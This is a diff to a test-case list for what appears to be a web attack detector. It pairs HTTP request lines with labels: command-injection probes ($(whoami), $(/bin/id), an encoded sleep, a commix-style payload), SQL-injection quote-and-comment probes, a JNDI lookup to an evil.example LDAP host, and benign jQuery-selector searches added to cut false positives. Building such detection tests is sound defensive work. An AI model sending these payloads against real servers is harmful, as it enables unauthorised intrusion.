@@ -247,6 +247,18 @@ CATEGORIES = [
     (b"GET /x?ip=1;id HTTP/1.1", "command_injection"),
     (b"GET /x?ip=`id` HTTP/1.1", "command_injection"),
     (b"GET /x?ip=$(whoami) HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=%24%28sleep%205%29 HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=$(/bin/id) HTTP/1.1", "command_injection"),
+    (b"GET /x?ip=1;echo+abc$((87%2B42))$(echo+abc)abc HTTP/1.1", "command_injection"),  # commix
+    # jQuery and CSS selectors, which developers search for: neither a command substitution nor a quote closed by
+    # a SQL comment (a search for "$(document).ready" answered 200 was a command injection "answered 2xx" warning)
+    (b"GET /search?q=$(document).ready HTTP/1.1", None),
+    (b"GET /search?q=%24(this).closest(%27div%27) HTTP/1.1", None),
+    (b"GET /search?q=$(%27%23main-nav%27).hide() HTTP/1.1", None),
+    (b"GET /search?q=%24(%22%23cart%22) HTTP/1.1", None),
+    (b"GET /login?u=admin'%23 HTTP/1.1", "sql_injection"),
+    (b"GET /login?u=admin%27%23&p=x HTTP/1.1", "sql_injection"),
+    (b"GET /x?id=1%22)%23 HTTP/1.1", "sql_injection"),
     (b"GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1", "command_injection"),
     (b"GET /?x=${${lower:j}ndi:x} HTTP/1.1", "command_injection"),
     (b"GET /x?cmd=/bin/bash HTTP/1.1", "command_injection"),
